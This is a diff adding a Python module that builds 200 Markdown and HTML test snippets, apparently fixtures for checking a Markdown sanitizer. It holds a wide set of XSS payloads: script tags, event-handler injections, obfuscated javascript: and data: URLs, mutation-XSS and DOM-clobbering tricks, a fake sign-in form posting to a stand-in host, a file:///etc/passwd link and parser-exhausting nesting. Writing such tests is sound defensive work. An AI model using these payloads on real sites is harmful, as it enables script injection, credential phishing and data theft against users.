@@ -1,0 +1,88 @@
+"""200 snippets of Markdown that want to run something, fetch something or look like the page."""
+
+from itertools import product
+
+AWAY = "http://away.invalid"
+RUN = "window.pwned = 1"
+MARKUP = (
+    f"<script>{RUN}</script>",
+    f"<script src='{AWAY}/a.js'></script>",
+    f"<img src=x onerror='{RUN}'>",
+    f"<img src='{AWAY}/a.png'>",
+    f"<svg onload='{RUN}'><image href='{AWAY}/a.png'/></svg>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin='{RUN}' attributeName=x></svg>",
+    f"<iframe src='{AWAY}'></iframe>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<object data='{AWAY}/a.swf'></object>",
+    f"<embed src='{AWAY}/a.swf'>",
+    f"<link rel=stylesheet href='{AWAY}/a.css'>",
+    f"<style>@import '{AWAY}/a.css'; body {{ display: none }}</style>",
+    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
+    f"<base href='{AWAY}/'>",
+    f"<form action='{AWAY}'><input name=key autofocus onfocus='{RUN}'><button>Sign in</button></form>",
+    f"<body onload='{RUN}'>",
+    f"<details open ontoggle='{RUN}'><summary>x</summary></details>",
+    f"<video src='{AWAY}/a.mp4' autoplay onerror='{RUN}'></video>",
+    f"<audio src='{AWAY}/a.mp3' autoplay></audio>",
+    f"<marquee onstart='{RUN}'>x</marquee>",
+    f"<a href='javascript:{RUN}'>x</a>",
+    f"<div style='background: url({AWAY}/a.png)'>x</div>",
+    f"<table background='{AWAY}/a.png'><td>x</td></table>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'></style></mglyph></table></mtext></math>",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN.replace(' ', '')}>'></noscript>",
+    f"<template><img src=x onerror='{RUN}'></template>",
+    f"<textarea><img src=x onerror='{RUN}'></textarea>",
+    f"<!--><img src=x onerror='{RUN}'>-->",
+    f"<![CDATA[<img src=x onerror='{RUN}'>]]>",
+    f"<dialog open onclose='{RUN}'>Your key, please: <input></dialog>",
+    "<form id=page><input name=innerHTML><input name=attributes></form>",
+    f"<a id=speech name=location href='{AWAY}'></a>",
+    f"<portal src='{AWAY}'></portal>",
+    f"<ScRiPt\n>{RUN}</sCrIpT\n>",
+    f"<img/src='x'/onerror='{RUN}'>",
+)
+LINKS = (
+    f"[x](javascript:{RUN.replace(' ', '')})",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x]( javascript:alert(1) )",
+    "[x](vbscript:x)",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:http://x/y)",
+    "[x](//away.invalid/x)",
+    "[x](/uploads)",
+    "[x](#/files)",
+    "[x](view-source:http://away.invalid)",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    f"[x]({AWAY} \"' onmouseover=alert(1) x='\")",
+    f'[x]({AWAY}/"onclick=alert(1)//)',
+    f"![x]({AWAY}/a.png)",
+    f'![x]({AWAY}/a.png "title" onerror=alert(1))',
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "![x](javascript:alert(1))",
+    f'!["onerror=alert(1)]({AWAY}/a.png)',
+    f"[![x]({AWAY}/a.png)](javascript:alert(1))",
+    f"```\"><img src=x onerror='{RUN}'>\ncode\n```",
+    f"```html\n<img src=x onerror='{RUN}'>\n```",
+    f"`<img src=x onerror='{RUN}'>`",
+    f"| a |\n|---|\n| <img src=x onerror='{RUN}'> |",
+    f"- [ ] <img src=x onerror='{RUN}'>",
+    f"# <script>{RUN}</script>",
+    "> " * 400 + "<script>alert(1)</script>",
+    "[" * 2000 + "](javascript:alert(1))",
+    "*" * 3000 + "x",
+)
+FRAMES = ("{}", "Before\n\n{}\n\nafter", "- item\n\n  {}", "> {}", "**bold {} bold**", "a {} b\n{}")
+
+
+def snippets(count: int = 200) -> list[str]:
+    framed = [frame.replace("{}", inner) for frame, inner in product(FRAMES, (*MARKUP, *LINKS))]
+    return list(dict.fromkeys(framed))[:count]
